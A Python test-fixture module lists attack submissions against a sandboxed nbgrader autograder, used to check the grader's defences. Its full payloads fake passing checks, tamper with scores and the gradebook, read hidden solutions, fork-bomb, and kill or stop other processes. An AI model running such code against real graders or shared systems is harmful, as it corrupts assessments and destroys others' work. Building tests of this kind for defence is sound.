"""The whole sample catalogue: the demo's submissions plus attacks on the grader.

Every entry goes through the real nbgrader pipeline in ``test_pipeline.py``
and ``tools/catalogue.py``.  Attack payloads are test fixtures: they stay
here, out of the installed package.  See `autograder.demo.submissions` for
`Sample` and what `expect` means.
"""
import nbformat

from autograder.demo.submissions import BUGS, CORRECT, EMPTY, MARKER, ROOT, SOLUTION_NOTEBOOK, Sample, build, verdict
from autograder.nbgrader.cells import is_test_cell, nbgrader_meta

__all__ = ["ATTACKS", "BUGS", "CATALOGUE", "CORRECT", "EMPTY", "EVIDENCE", "MARKER", "ROOT", "SOLUTION_NOTEBOOK",
           "Sample", "automatic_cells", "build", "verdict"]




def _tamper_points(nb):
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 1000


def _delete_test_cells(nb):
    nb["cells"] = [c for c in nb["cells"] if not (c.get("metadata", {}).get("nbgrader", {}).get("grade")
                                                 and c["cell_type"] == "code")]


def _blank_and_rename_tests(nb):
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and cell["cell_type"] == "code":
            cell["source"] = "pass"
            meta["grade_id"] = meta["grade_id"] + "-renamed"


def _fake_outputs(nb):
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                "data": {"text/plain": str(meta.get("points", 1))}}]
        elif meta.get("solution") and cell["cell_type"] == "code":
            meta["solution"] = False
            meta["grade"] = True
            meta["points"] = 50


GARBAGE = {name: f"""
def {name}(*args, **kwargs):
    return torch.zeros(1)
""" for name in ("attention_scores", "scale_scores", "apply_mask", "softmax", "attention_output",
                 "causal_mask", "key_padding_to_attn_mask", "fixed_attention")}
GARBAGE["hand-calc-answers"] = "hand_scores = hand_scaled = hand_weights = [0, 0, 0]\nhand_output = hand_masked_output = 0"  # noqa: E501 - test data
GARBAGE["shape-answers"] = "shape_scores = shape_weights = shape_output = shape_padding_mask = (1,)\nsoftmax_dim = 0"
GARBAGE["bug-choice"] = 'verdict_1 = verdict_2 = verdict_3 = "D"'
GARBAGE["scale-answer"] = 'scale_answer = "A"'
GARBAGE["causal-align-answers"] = "n_keys_top_left = n_keys_bottom_right = 6"
GARBAGE["mha-mask-answer"] = 'mha_mask_answer = "A"'
GARBAGE["empty-rows-answers"] = "n_empty_rows = 0\nfill_weight = 0.0"
GARBAGE["dropout-answers"] = 'dropout_kept_value = 0.4\ndropout_sdpa_answer = "A"'
GARBAGE["scaled_dot_product_attention"] = """
def scaled_dot_product_attention(q, k, v, mask=None):
    return torch.zeros(1), torch.zeros(1)
"""

# Plants files and module look-alikes, a System V segment, and a detached
# process that waits for this runner to end and then kills everything else
# it can see (the next student's runner, a zygote).
LEAVE_TRACES = """
import ctypes, os, signal, time
runner = os.getpid()
for place in (".", os.path.expanduser("~"), "/tmp", "/dev/shm"):
    with open(os.path.join(place, "planted.txt"), "w") as f:
        f.write("from the previous student")
for name in ("statistics", "fractions", "decimal", "pandas", "scipy"):
    with open(name + ".py", "w") as f:
        f.write("raise ImportError('planted by the previous student')")
for name in os.listdir("/tmp/mpl"):  # matplotlib's font cache: spoil it
    with open(os.path.join("/tmp/mpl", name), "w") as f:
        f.write("{}")
os.makedirs("locked/inner")
os.chmod("locked", 0)
ctypes.CDLL(None).shmget(0x5D9A, 4096, 0o1666)

def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while alive(runner):
            time.sleep(0.005)
        while True:
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) not in (1, os.getpid()):
                    try:
                        os.kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.005)
    os._exit(0)
_ = os.wait()
"""

# Stops every process it may signal but itself and init (a zygote, if any).
STOP_OTHERS = """
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (1, os.getpid()):
        try:
            os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            pass
"""

# Process names in bytes that are not UTF-8 (the runner, one of its threads, a child that lives on): the
# grader reads /proc for its own evidence, and every session scans it for its runner's children.
ODD_NAMES = """
import ctypes, os, threading, time
libc = ctypes.CDLL(None)
with open("/proc/self/comm", "wb") as f:
    f.write(b"\\xff\\xfe) R 1 (\\x80")
def named_thread():
    libc.prctl(15, ctypes.c_char_p(b"\\xc3(\\xa0\\xa1"), 0, 0, 0)  # PR_SET_NAME
    time.sleep(3600)
threading.Thread(target=named_thread, daemon=True).start()
if os.fork() == 0:
    libc.prctl(15, ctypes.c_char_p(b"\\xfe\\xff)"), 0, 0, 0)
    time.sleep(3600)
    os._exit(0)
time.sleep(1)  # the grader looks at a runner that takes a while (has it stopped itself?)
"""

ATTACKS = [
    Sample("attack-allclose-patch", "attack", "zero", GARBAGE, append=("""
import sys, types, torch, numpy, pytest
pytest.approx = lambda *a, **k: True
sys.modules["autograder"] = types.SimpleNamespace(grade=lambda *a, **k: 100)
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
""",)),
    Sample("attack-formatter", "attack", "zero", GARBAGE, append=("""
ip = get_ipython()
ip.display_formatter.formatters["text/plain"].for_type(float, lambda x, p, c: p.text("100.0"))
ip.display_formatter.formatters["text/plain"].for_type(int, lambda x, p, c: p.text("100.0"))
import sys
class Fake:
    def write(self, s): return len(s)
    def flush(self): pass
sys.stderr = Fake()
""",)),
    Sample("attack-read-solutions", "attack", "zero", GARBAGE, append=("""
import glob, os, sys
runner = os.path.realpath(sys.argv[0])
course = runner
for _ in range(4):  # autograder/sandbox/guest/runner.py: where the grader lives
    course = os.path.dirname(course)
found = []
for pattern in ["solutions/*.py", "source/**/*.ipynb", "gradebook.db", "submitted/*/sdpa/*.ipynb",
                "autograded/**/*", "autograder/grading/checks/*.py", "autograder/grading/mutants.py"]:
    found += glob.glob(os.path.join(course, pattern), recursive=True)
for root in ["/work", "/home", "/root", "/tmp", "/srv"]:
    found += glob.glob(os.path.join(root, "**", "gradebook.db"), recursive=True)[:3]
print("found:", sorted(found))
for path in found:
    if path.endswith("sdpa.py"):
        exec(open(path).read())
try:
    import autograder.grading.assertions
    print("imported grader")
except Exception as exc:
    print("no grader:", type(exc).__name__)
""",), note="gets nothing only because the sandbox hides the course directory"),
    Sample("attack-gradebook-and-grader-files", "attack", "zero", GARBAGE, append=("""
import os, sqlite3, sys
course = os.path.realpath(sys.argv[0])
for _ in range(4):  # autograder/sandbox/guest/runner.py
    course = os.path.dirname(course)
for target in [os.path.join(course, "gradebook.db"), os.path.join(course, "nbgrader_config.py"),
               os.path.realpath(sys.argv[0]), os.path.join(course, "autograder", "sandbox", "guest", "wire.py")]:
    try:
        with open(target, "a") as handle:
            handle.write("\\n# poisoned\\n")
        print("wrote", target)
    except OSError as exc:
        print("blocked", type(exc).__name__)
try:
    db = sqlite3.connect(os.path.join(course, "gradebook.db"))
    db.execute("CREATE TRIGGER boost AFTER INSERT ON grade BEGIN UPDATE grade SET auto_score = 100; END")
    print("trigger planted")
except Exception as exc:
    print("blocked", type(exc).__name__)
""",)),
    Sample("attack-network", "attack", "zero", GARBAGE, append=("""
import socket
for host, port in [("127.0.0.1", 22), ("127.0.0.1", 8888), ("localhost", 80)]:
    try:
        socket.create_connection((host, port), timeout=1).close()
        print("connected", host, port)
    except OSError as exc:
        print("no network:", type(exc).__name__)
""",)),
    Sample("attack-fork-bomb", "attack", "lose", append=("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",)),  # noqa: E501 - test data
    Sample("attack-exit-kernel", "attack", "lose", append=("import os\nos._exit(0)",), lose=()),
    # pid 2 is the zygote, or what forked a fresh runner: stopped, it would keep the sandbox (and the pipes) alive
    Sample("attack-stop-sandbox-parent-and-exit", "attack", "lose", append=(
        "import os, signal\ntry:\n    os.kill(2, signal.SIGSTOP)\nexcept OSError:\n    pass\nos._exit(0)",),
        lose=(), note="pid 2 keeps uid 0 (root mode) and a runner that ended is seen gone at once: same outcome "
                      "from both graders"),
    Sample("attack-kill-kernel", "attack", "lose", append=("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",)),
    Sample("attack-infinite-loop-cell", "attack", "lose", append=("while True:\n    pass",)),
    Sample("attack-infinite-loop-function", "attack", "lose", {"scale_scores": """
def scale_scores(scores, d_k):
    while True:
        pass
"""}, lose=("scale_scores-check", "scaled_dot_product_attention-check", "device_dtype-check",
            "fixed_attention-check")),
    Sample("attack-huge-output", "attack", "lose", append=("print('x' * 50_000_000)\nfor i in range(10**5):\n    print(i)",)),  # noqa: E501 - test data
    Sample("attack-huge-allocation", "attack", "lose", append=("import torch\nbig = torch.empty(10**12)",)),
    Sample("attack-points-tamper", "attack", "lose", edit=_tamper_points),
    Sample("attack-delete-tests", "attack", "lose", edit=_delete_test_cells),
    Sample("attack-blank-rename-tests", "attack", "lose", edit=_blank_and_rename_tests),
    Sample("attack-fake-outputs", "attack", "zero", GARBAGE, edit=_fake_outputs),
    # Aimed at whoever runs next in the same sandbox (``forkserver.py`` reuses one
    # for many students): its own correct answers must keep every point, and the
    # next student must be graded as if it had never existed.
    # Text no notebook can store (a lone surrogate) in an output and in an exception message:
    # the grader must still write this student's notebook, with every point they earned.
    Sample("attack-unencodable-output", "attack", "full",
           append=("print('\\ud800')\ntry:\n    raise ValueError('\\udfff')\nexcept ValueError as e:\n"
                   "    display(e)",)),
    Sample("attack-leave-traces", "attack", "full", append=(LEAVE_TRACES,)),
    Sample("attack-odd-process-names", "attack", "full", append=(ODD_NAMES,)),
    Sample("attack-stop-everyone-else", "attack", "full", append=(STOP_OTHERS,)),
]

# -- evidence: points only for values that arrived and were checked -----------------
SPARSE_ZEROS = {name: f"""
def {name}(*args, **kwargs):
    first = next(a for a in args if isinstance(a, torch.Tensor))
    return torch.zeros({shape}, dtype=first.dtype, device=first.device).to_sparse()
""" for name, shape in (("attention_scores", "*args[0].shape[:-1], args[1].shape[-2]"),
                         ("scale_scores", "args[0].shape"), ("apply_mask", "args[0].shape"),
                         ("softmax", "args[0].shape"), ("attention_output", "*args[0].shape[:-1], args[1].shape[-1]"),
                         ("fixed_attention", "*args[0].shape[:-1], args[2].shape[-1]"))}
SPARSE_ZEROS["scaled_dot_product_attention"] = """
def scaled_dot_product_attention(q, k, v, mask=None):
    out = torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype, device=q.device).to_sparse()
    return out, torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype, device=q.device).to_sparse()
"""
SPARSE_ZEROS["causal_mask"] = """
def causal_mask(L, S, device=None):
    return torch.zeros(L, S, dtype=torch.bool, device=device).to_sparse()
"""
SPARSE_ZEROS["key_padding_to_attn_mask"] = """
def key_padding_to_attn_mask(key_padding_mask):
    B, S = key_padding_mask.shape
    return torch.zeros(B, 1, 1, S, dtype=torch.bool).to_sparse()
"""
NONE_ANSWERS = {name: f"def {name}(*args, **kwargs):\n    return None\n" for name in GARBAGE
                if name.isidentifier()}  # function cells; the others hold answer variables

# The runner's encoder, patched from student code: tensors go out without their values.
STRIP_TENSOR_DATA = """
import sys
_wire = sys.modules["wire"]
_encode = _wire.encode
def _no_values(value, blobs, depth=0):
    out = _encode(value, blobs, depth)
    if isinstance(out, dict) and out.get("__tensor__") is not None:
        blobs.pop()
        out["__tensor__"] = None
    return out
_wire.encode = _no_values
"""
TENSOR_PARTS = ("attention_scores-check", "scale_scores-check", "apply_mask-check", "softmax-check",
                "attention_output-check", "scaled_dot_product_attention-check", "causal_mask-check",
                "key_padding_to_attn_mask-check", "fixed_attention-check", "device_dtype-check")
# Grade cells that read answer variables (no tensors from the student's functions).
ANSWER_PARTS = ("hand-calc-check", "shapes-check", "why-scale-check", "causal-align-check", "mha-mask-check",
                "empty-rows-check", "bug-choice-check", "dropout-check")
SOFTMAX_PARTS = ("softmax-check", "scaled_dot_product_attention-check", "device_dtype-check")

# -- built-ins in disguise (found by a red-team pass over the static scan) ------------
CAPTURED_REFS = """
import torch._refs
_impl = []
_impl.append(torch._refs.softmax)  # stored, not bound: reachable through `_impl`

def softmax(x, dim=-1):
    return torch.nan_to_num(_impl[0](x, dim), nan=0.0)
"""
LOOKED_UP_NAME = """
import torch._refs as _r
_impl = vars(_r)[" softmax ".strip()]

def softmax(x, dim=-1):
    return torch.nan_to_num(_impl(x, dim), nan=0.0)
"""
# Reaches the runner through a closure (no gc), drops its kernels, calls a captured SDPA.
UNWIRED_SDPA = """
import inspect
_fa = []
_fa.append(F.scaled_dot_product_attention)

def _unwire():
    runner = inspect.getclosurevars(type(get_ipython().display_pub).publish).nonlocals["runner"]
    libraries = vars(runner).get("_libraries", {})
    while libraries:
        libraries.popitem()[1]._destroy()

def scaled_dot_product_attention(q, k, v, mask=None):
    if k.shape[-2] != v.shape[-2]:
        raise ValueError("S mismatch")
    _unwire()
    eye = torch.eye(k.shape[-2], dtype=q.dtype, device=q.device).expand(*k.shape[:-1], k.shape[-2])
    return _fa[0](q, k, v, attn_mask=mask), _fa[0](q, k, eye, attn_mask=mask)
"""
# Runs the built-in in a process forked before the checks (no tripwires there), over a socket.
FORKED_HELPER = """
import os, pickle, socket, struct

def _read(sock, n):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            os._exit(0)
        data += chunk
    return data

def _serve(sock):
    while True:
        x, dim = pickle.loads(_read(sock, struct.unpack("Q", _read(sock, 8))[0]))
        out = pickle.dumps(torch.nan_to_num(torch.softmax(x, dim), nan=0.0))
        sock.sendall(struct.pack("Q", len(out)) + out)

_mine, _theirs = socket.socketpair()
if os.fork() == 0:
    _mine.close()
    _serve(_theirs)
_theirs.close()

def softmax(x, dim=-1):
    data = pickle.dumps((x, dim))
    _mine.sendall(struct.pack("Q", len(data)) + data)
    return pickle.loads(_read(_mine, struct.unpack("Q", _read(_mine, 8))[0]))
"""
# Correct code whose own names look like built-ins: a method, an attribute, a dict key.
OWN_NAMES = {"softmax": """
class Ops:
    @staticmethod
    def softmax(x, dim=-1):
        slice_max = x.amax(dim=dim, keepdim=True)
        slice_max = torch.where(torch.isfinite(slice_max), slice_max, torch.zeros_like(slice_max))
        exps = torch.exp(x - slice_max)
        totals = exps.sum(dim=dim, keepdim=True)
        return exps / torch.where(totals > 0, totals, torch.ones_like(totals))

class StableSoftmax:
    def __init__(self, dim):
        self.softmax_dim = dim

    def __call__(self, x):
        return Ops.softmax(x, self.softmax_dim)

_cache = {}

def softmax(x, dim=-1):
    _cache["softmax"] = dim  # a dict key, not a lookup
    return StableSoftmax(dim)(x)
"""}
DEEP_EXPRESSION = "_z = 1 if True else x" + ".a" * 400  # deeper than the AST tools recurse

# -- limits held by the grader, not by the student's process ------------------------
# Finds the runner through gc, lifts its tripwires and drops its aten kernels.
DISARM_TRIPWIRES = """
import gc
gc.unfreeze()  # what the runner froze at start-up is not in get_objects()
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Runner":
        _runner = _obj
_runner.install_tripwires = lambda: None
type(_runner).blocking = property(lambda self: False, lambda self, value: None)
for _lib in getattr(_runner, "_libraries", {}).values():
    _lib._destroy()
"""
BUILTIN_SOFTMAX = """
def softmax(x, dim=-1):
    return torch.softmax(x, dim=dim)
"""
BUILTIN_SDPA = """
def scaled_dot_product_attention(q, k, v, mask=None):
    if k.shape[-2] != v.shape[-2]:
        raise ValueError("S mismatch")
    out = F.scaled_dot_product_attention(q, k, v, attn_mask=mask)
    eye = torch.eye(k.shape[-2], dtype=q.dtype, device=q.device).expand(*k.shape[:-1], k.shape[-2])
    return out, F.scaled_dot_product_attention(q, k, eye, attn_mask=mask)
"""
MASKED_SOFTMAX = """
def softmax(x, dim=-1):
    keep = torch.zeros_like(x, dtype=torch.bool)
    return torch.nan_to_num(torch.ops.aten._masked_softmax(x, keep, dim % x.dim()), nan=0.0)
"""

# After replying, the runner stops itself; its request pipe is shrunk to one page,
# and the next cell is larger than that, so a blocking write would wait forever.
STOP_AND_SMALL_PIPE = """
import fcntl, gc, os, signal
gc.unfreeze()
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Runner":
        _runner = _obj
fcntl.fcntl(_runner.proto_in.fileno(), 1031, 4096)  # F_SETPIPE_SZ

class _StopAfterReply:
    def __init__(self, inner):
        self.inner = inner
    def write(self, data):
        return self.inner.write(data)
    def flush(self):
        self.inner.flush()
        os.kill(os.getpid(), signal.SIGSTOP)

_runner.proto_out = _StopAfterReply(_runner.proto_out)
"""
BIG_CELL = "# " + "填充" * 6000 + "\nbig_cell_ran = True"

# Lifts the runner's own output caps, prints 3 MB after every cell and 8 MB once.
OUTPUT_FLOOD = """
import gc, sys
gc.unfreeze()
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Runner":
        _runner = _obj
_limits = type(_runner)._stream.__globals__  # the runner module's globals
_limits["MAX_STREAM_CHARS_PER_CELL"] = 10**10
_limits["MAX_DISPLAY_BYTES_PER_CELL"] = 10**10
get_ipython().events.register("post_run_cell", lambda result: print("x" * 3_000_000))
"""

# -- the next student: nothing reaches the zygote's later runners --------------------
ZYGOTE_STATE = """
import ctypes, os, resource
done = []
zygote = 2 if os.getpid() != 2 else None  # under a fork server pid 2 is the zygote; else it is this runner
for what, attempt in [] if zygote is None else [
        ("as", lambda: resource.prlimit(zygote, resource.RLIMIT_AS, (2**28, 2**28))),
        ("nofile", lambda: resource.prlimit(zygote, resource.RLIMIT_NOFILE, (16, 16))),
        ("nproc", lambda: resource.prlimit(zygote, resource.RLIMIT_NPROC, (4, 4))),
        ("nice", lambda: os.setpriority(os.PRIO_PROCESS, zygote, 19)),
        ("idle", lambda: os.sched_setscheduler(zygote, os.SCHED_IDLE, os.sched_param(0))),
        ("affinity", lambda: os.sched_setaffinity(zygote, {0}))]:
    try:
        attempt()
        done.append(what)
    except OSError:
        pass
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mq_open.restype = ctypes.c_int
if _libc.mq_open(b"/left-behind", os.O_CREAT | os.O_RDWR, 0o600, None) >= 0:
    done.append("mqueue")
if _libc.syscall(248, b"user", b"left-behind", b"x", 1, -4) >= 0:  # add_key to the user keyring (x86_64)
    done.append("keyring")
os.chmod(".", 0o555)
"""

# -- which runner am I in? A fresh runner and a forked one must look alike to the notebook ----------
TELL_RUNNERS_APART = """
import gc, os, sys
_forked_look = (gc.get_freeze_count() > 100_000 and {"sympy", "torch._dynamo", "runner"} <= set(sys.modules)
                and os.getppid() == 1 and os.getpid() != 2)
if not _forked_look:
    scale_answer = "A"  # wrong, only where the runner looks fresh
"""

FAIR_FORMS = {
    "hand-calc-answers": """
from decimal import Decimal
from fractions import Fraction
import numpy as np
hand_scores = np.array([0.0, 2 * math.log(2), 2 * math.log(5)])
hand_scaled = torch.tensor([0.0, math.log(2), math.log(5)])
hand_weights = [Fraction(1, 8), Fraction(2, 8), Fraction(5, 8)]
hand_output = Decimal(12)
hand_masked_output = np.float64(16 / 3)
""",
    "shape-answers": """
import numpy as np
shape_scores = torch.Size([2, 4, 5, 7])
shape_weights = np.array([2, 4, 5, 7])
shape_output = [np.int64(2), 4, 5, 16]
shape_padding_mask = torch.tensor([2, 1, 1, 7])
softmax_dim = np.int64(-1)
""",
    "attention_scores": """
class ShapeMismatch(ValueError):
    pass

def attention_scores(q, k):
    if q.shape[-1] != k.shape[-1]:
        raise ShapeMismatch(f"d_k: {q.shape[-1]} != {k.shape[-1]}")
    return q @ k.transpose(-2, -1)
""",
}

EVIDENCE = [
    Sample("attack-sparse-outputs", "attack", "zero", dict(GARBAGE, **SPARSE_ZEROS),
           note="tensors of the right shape, dtype and device that carry no values"),
    Sample("attack-strip-tensor-data", "attack", "lose-all", append=(STRIP_TENSOR_DATA,), lose=TENSOR_PARTS,
           note="correct code, but the patched runner sends no tensor values"),
    Sample("attack-return-none", "attack", "zero", dict(GARBAGE, **NONE_ANSWERS)),
    Sample("attack-disarm-tripwires", "attack", "lose-all", {"softmax": BUILTIN_SOFTMAX,
                                                            "scaled_dot_product_attention": BUILTIN_SDPA},
           append=(DISARM_TRIPWIRES,), lose=SOFTMAX_PARTS, codes=("softmax-builtin", "sdpa-builtin")),
    Sample("attack-masked-softmax", "attack", "lose-all", {"softmax": MASKED_SOFTMAX}, lose=SOFTMAX_PARTS,
           codes=("softmax-builtin",)),
    Sample("attack-captured-reference", "attack", "lose-all", {"softmax": CAPTURED_REFS}, lose=SOFTMAX_PARTS,
           codes=("softmax-builtin",)),
    Sample("attack-looked-up-name", "attack", "lose-all", {"softmax": LOOKED_UP_NAME}, lose=SOFTMAX_PARTS,
           codes=("softmax-builtin",)),
    Sample("attack-unwired-sdpa", "attack", "lose-all", {"scaled_dot_product_attention": UNWIRED_SDPA},
           lose=("scaled_dot_product_attention-check", "device_dtype-check"), codes=("sdpa-builtin",)),
    Sample("attack-forked-helper", "attack", "lose-all", {"softmax": FORKED_HELPER}, lose=TENSOR_PARTS,
           codes=("softmax-builtin",), note="process creation: a forbidden use anywhere counts for every function"),
    Sample("attack-deep-expression", "attack", "full", append=(DEEP_EXPRESSION,),
           note="the static scan must not crash the grader"),
    Sample("attack-stop-and-small-pipe", "attack", "lose", append=(STOP_AND_SMALL_PIPE, BIG_CELL),
           lose=tuple(g for g in TENSOR_PARTS) + ANSWER_PARTS,
           note="every wait on the runner has a wall-clock deadline"),
    Sample("attack-runner-out-of-gc-sight", "attack", "full",
           append=(STOP_AND_SMALL_PIPE.replace("gc.unfreeze()\n", ""), BIG_CELL),
           note="without gc.unfreeze() the runner is not in gc.get_objects(), forked or fresh alike: the same "
                "grade from both graders"),
    Sample("attack-tell-runners-apart", "attack", "full", append=(TELL_RUNNERS_APART,),
           note="a fresh runner warms up and forks as a zygote does: the same grade from stock and sdpa-course"),
    Sample("attack-output-flood", "attack", "full", append=(OUTPUT_FLOOD, "print('y' * 8_000_000)"),
           note="outputs are capped in the grader: the notebook stays small"),
    Sample("attack-zygote-state", "attack", "full", append=(ZYGOTE_STATE,),
           note="aimed at later runners of the same zygote sandbox"),
    Sample("fairness-answer-forms", "fairness", "full", FAIR_FORMS,
           note="Fraction, Decimal, numpy and tensor answers; a ValueError subclass"),
    Sample("fairness-own-names", "fairness", "full", OWN_NAMES,
           note="a method Ops.softmax, an attribute self.softmax_dim and a key 'softmax', all the student's own"),
]



CATALOGUE = CORRECT + BUGS + ATTACKS + EVIDENCE + EMPTY


def automatic_cells():
    """(count, points) of the source notebook's autograded test cells: what full automatic marks are."""
    nb = nbformat.read(str(ROOT / "source" / "sdpa" / "sdpa.ipynb"), as_version=4)
    points = [float(nbgrader_meta(cell).get("points", 0)) for cell in nb.cells if is_test_cell(cell)]
    return len(points), sum(points)
